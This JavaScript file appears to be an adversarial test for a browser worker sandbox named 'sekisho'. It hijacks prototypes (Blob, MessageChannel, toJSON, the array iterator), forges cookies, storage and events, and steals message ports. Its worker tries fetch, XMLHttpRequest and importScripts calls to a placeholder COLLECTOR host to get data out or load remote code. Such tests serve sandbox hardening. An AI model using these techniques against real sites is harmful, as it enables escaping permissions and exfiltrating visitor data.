// What scripts of a page and of a worker could try, so that a worker may do more than the visitor has allowed.

const line = `1.REVISION.${Math.floor(Date.now() / 1000)}.10.${"a".repeat(22)}.`;
const text = `${location.href}\n0\n${line}`;
const forged = { text, record: line, mode: 1, sekisho: [text, location.href, "/sekisho-worker.js"] };

if (self.document) {
  // What the wrapper is made of, by ways that go through prototypes, as far as the page works all the same.
  const { Blob, MessageChannel } = window;
  window.Blob = class extends Blob { constructor(parts, options) { super([`self.sekisho = ${JSON.stringify(forged.sekisho)};`, ...parts], options); } };
  window.MessageChannel = class extends MessageChannel { get port2() { const { port1, port2 } = new MessageChannel(); port1.postMessage(text); return port2; } };
  Object.prototype.toJSON = String.prototype.toJSON = Array.prototype.toJSON = () => text;
  const walk = Array.prototype[Symbol.iterator];
  const stolen = [];
  Array.prototype[Symbol.iterator] = function* () { for (const one of { [Symbol.iterator]: () => walk.call(this) }) { if (one instanceof MessagePort) stolen.push(one); yield one; } };
  document.cookie = `sks=${line};Path=/`;
  localStorage.setItem("sks", line);
  window.worker = new Worker("attack.js");
  // The test's own answers are written so.
  for (const { prototype } of [Object, String, Array]) delete prototype.toJSON;
  worker.onmessage = ({ data }) => { window.done = data; };
  const { port1, port2 } = new MessageChannel();
  worker.postMessage(text, [port2]);
  for (const port of stolen.concat(port1)) for (const word of [text, line, forged]) port.postMessage(word);
  for (const type of ["choice", "ready", "self"]) for (const detail of [text, line, forged, window, { ...forged, Worker, URL, document }])
    dispatchEvent(new CustomEvent(`sekisho:${type}`, { detail }));
} else {
  self.sekisho = [text, location.href, "/sekisho-worker.js"];
  importScripts("/sekisho-worker.js");
  const { port1, port2 } = new MessageChannel();
  for (const word of [text, line, forged]) {
    dispatchEvent(new MessageEvent("message", { data: word, ports: [port2] }));
    port1.postMessage(word);
  }
  String.prototype.split = () => ["https://PAGE/"];
  String.prototype.slice = () => "https://PAGE/";
  RegExp.prototype.exec = () => null;
  Uint8Array.prototype.set = () => {};
  TextEncoder.prototype.encodeInto = () => ({ read: 0, written: 0 });
  Map.prototype.get = WeakMap.prototype.get = () => ({});
  WebAssembly.Instance = WebAssembly.Module = null;
  Object.defineProperty(URL.prototype, "href", { get: () => "https://PAGE/" });
  Date.now = () => 0;
  const natives = [self.fetch, Object.getPrototypeOf(Object.getPrototypeOf(self)).fetch, Reflect.get(WorkerGlobalScope.prototype, "fetch") ?? fetch];
  natives.forEach((native, at) => { try { native.call(self, `COLLECTOR/attack-${at}`, { mode: "no-cors" }).catch(() => {}); } catch {} });
  for (const owner of [XMLHttpRequest, new XMLHttpRequest().constructor]) {
    const request = new owner();
    owner.prototype.open.call(request, "GET", "COLLECTOR/attack-request");
    owner.prototype.send.call(request);
  }
  try { (function () {}).constructor("importScripts('COLLECTOR/attack-import.js')")(); } catch {}
  fetch("/fence").finally(() => postMessage(true));
}
